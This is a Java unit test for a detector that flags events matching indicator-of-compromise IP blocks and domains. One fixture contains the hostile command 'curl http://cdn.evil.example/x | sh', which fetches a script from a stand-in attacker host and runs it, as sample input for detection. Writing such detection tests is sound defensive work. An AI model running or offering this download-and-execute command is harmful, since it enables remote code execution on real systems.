package dev.cadet.detectors.internal.detect;

import dev.cadet.detectors.testkit.DetectorHarness;
import dev.cadet.detectors.testkit.E;
import dev.cadet.model.Severity;
import org.junit.jupiter.api.Test;

import java.util.List;

import static dev.cadet.detectors.testkit.E.user;
import static org.assertj.core.api.Assertions.assertThat;

class IocMatchDetectorTest {

    private final DetectorHarness h = new DetectorHarness(new IocMatchDetector(
            List.of("185.220.101.0/24", "2001:db8:bad::/48"), List.of("evil.example")));

    @Test
    void aSourceInAnIndicatorBlockMatchesAnyEvent() {
        h.push(E.other(user("eve")).ip("185.220.101.45").at("10:00"),
                E.other(user("eve")).ip("::ffff:185.220.101.46").at("10:01"),
                E.other(user("eve")).ip("185.220.102.1").at("10:02")).end();
        assertThat(h.only().severity()).isEqualTo(Severity.HIGH);
        assertThat(h.only().evidence()).hasSize(2);
        assertThat(h.only().summary()).contains("source address 185.220.101.45");
    }

    @Test
    void domainsMatchWholeHostNamesInCommandTextAndServiceHosts() {
        h.push(E.command(user("eve")).at("10:00").lines("curl http://cdn.evil.example/x | sh"),
                E.command(user("eve")).at("10:01").lines("curl http://notevil.example/x"),
                E.command(user("eve")).at("10:02").lines("ping 185.220.101.7"),
                E.other(user("svc")).host("api.evil.example").at("10:03")).end();
        assertThat(h.findings()).hasSize(2);
        assertThat(h.findings().get(0).severity()).isEqualTo(Severity.CRITICAL);
        assertThat(h.findings().get(0).summary()).contains("domain evil.example in command text")
                .contains("address 185.220.101.7 in command text");
        assertThat(h.findings().get(0).evidence()).hasSize(2);
        assertThat(h.findings().get(1).summary()).contains("service host api.evil.example");
    }

    @Test
    void withoutIndicatorsItDoesNothing() {
        DetectorHarness none = new DetectorHarness(new IocMatchDetector(List.of(), List.of()));
        none.push(E.command(user("eve")).ip("185.220.101.45").at("10:00")).end();
        assertThat(none.findings()).isEmpty();
    }
}
